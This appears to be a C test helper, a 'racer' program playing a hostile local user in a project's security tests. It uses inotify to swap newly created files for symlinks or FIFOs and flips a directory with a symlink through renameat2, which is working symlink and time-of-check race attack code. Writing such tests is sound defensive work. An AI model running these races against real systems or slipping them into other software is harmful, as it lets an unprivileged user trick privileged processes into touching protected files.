/*
 * A hostile local user's racer, for the attack tests in controller/src/test/java/t3/reconciler/controller/security.
 * Compiled by the tests with gcc; run as the unprivileged attacker (setpriv). Both modes are bounded.
 *
 *   racer swap DIR TARGET MAX PREFIX...
 *       inotify on DIR: every entry created in DIR whose name starts with one of PREFIX is at once replaced, by
 *       rename(2), with a symlink to TARGET. Prints "swapped NAME" per swap; exits after MAX swaps. (Only IN_CREATE:
 *       the racer's own rename is an IN_MOVED_TO, which would set it swapping its own links.)
 *   racer fifo DIR NAME MAX PREFIX...
 *       inotify on DIR: whenever an entry whose name starts with one of PREFIX is created there, DIR/NAME is
 *       replaced, by rename(2), with a new FIFO (a file that was checked a moment ago is no longer one). Prints
 *       "fifo NAME" per replacement; exits after MAX.
 *   racer exchange DIR A B MAX
 *       renameat2(RENAME_EXCHANGE) of DIR/A and DIR/B, MAX times (e.g. a real directory and a symlink to a
 *       directory the attacker cannot read), as fast as it can. Prints the count at the end.
 *
 * Prints "ready" once armed, so a test can start the victim's work only then.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static int has_prefix(const char *name, char **prefixes, int n) {
    for (int i = 0; i < n; i++)
        if (strncmp(name, prefixes[i], strlen(prefixes[i])) == 0) return 1;
    return 0;
}

/* With fifo_name set, the created entry is left alone and fifo_name is replaced by a FIFO instead. */
static int swap(const char *dir, const char *target, const char *fifo_name, long max, char **prefixes, int n) {
    int fd = inotify_init1(0);
    if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE) < 0) { perror("inotify"); return 2; }
    int dfd = open(dir, O_RDONLY | O_DIRECTORY);
    if (dfd < 0) { perror(dir); return 2; }
    printf("ready\n");
    fflush(stdout);
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    long swaps = 0;
    while (swaps < max) {
        ssize_t len = read(fd, buf, sizeof buf);
        if (len <= 0) { perror("read"); return 2; }
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *e = (struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (!e->len || strncmp(e->name, ".racer-", 7) == 0 || !has_prefix(e->name, prefixes, n)) continue;
            char link[64];
            snprintf(link, sizeof link, ".racer-%ld", swaps);
            unlinkat(dfd, link, 0);
            int made = fifo_name ? mkfifoat(dfd, link, 0600) : symlinkat(target, dfd, link);
            if (made != 0) { perror(fifo_name ? "mkfifoat" : "symlinkat"); continue; }
            const char *victim = fifo_name ? fifo_name : e->name;
            if (renameat(dfd, link, dfd, victim) == 0) {
                swaps++;
                printf("%s %s\n", fifo_name ? "fifo" : "swapped", victim);
                fflush(stdout);
            } else {
                unlinkat(dfd, link, 0);
            }
        }
    }
    return 0;
}

static volatile sig_atomic_t stopped;
static void stop(int sig) { (void)sig; stopped = 1; }

static int exchange(const char *dir, const char *a, const char *b, long max) {
    int dfd = open(dir, O_RDONLY | O_DIRECTORY);
    if (dfd < 0) { perror(dir); return 2; }
    printf("ready\n");
    fflush(stdout);
    signal(SIGTERM, stop); /* the test's SIGTERM ends the race early, and the count still gets printed */
    long done = 0;
    for (long i = 0; i < max && !stopped; i++)
        if (renameat2(dfd, a, dfd, b, RENAME_EXCHANGE) == 0) done++;
    /* an even count leaves them as they were */
    if (done % 2) renameat2(dfd, a, dfd, b, RENAME_EXCHANGE);
    printf("exchanged %ld\n", done);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 6 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], NULL, atol(argv[4]), argv + 5, argc - 5);
    if (argc >= 6 && strcmp(argv[1], "fifo") == 0) return swap(argv[2], NULL, argv[3], atol(argv[4]), argv + 5, argc - 5);
    if (argc == 6 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3], argv[4], atol(argv[5]));
    fprintf(stderr, "usage: racer swap DIR TARGET MAX PREFIX... | racer fifo DIR NAME MAX PREFIX... | racer exchange DIR A B MAX\n");
    return 2;
}
